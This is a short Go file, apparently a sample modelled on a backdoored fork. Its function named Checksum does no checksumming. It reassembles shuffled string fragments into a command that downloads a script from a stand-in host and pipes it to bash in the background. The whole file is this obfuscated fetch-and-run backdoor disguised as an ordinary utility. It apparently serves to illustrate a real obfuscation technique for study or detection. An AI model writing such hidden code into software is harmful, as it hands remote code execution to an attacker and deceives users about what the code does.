// Modelled on a 2025 backdoored fork: fragments stored out of order and
// put back together by index.
package lib

import "os/exec"

func Checksum() {
	s := []string{"/x", "wget -O", "/bin/bash &", "https://", " | ", " - ", "cdn.example"}
	exec.Command("/bin/sh", "-c", s[1]+s[5]+s[3]+s[6]+s[0]+s[4]+s[2]).Start()
}
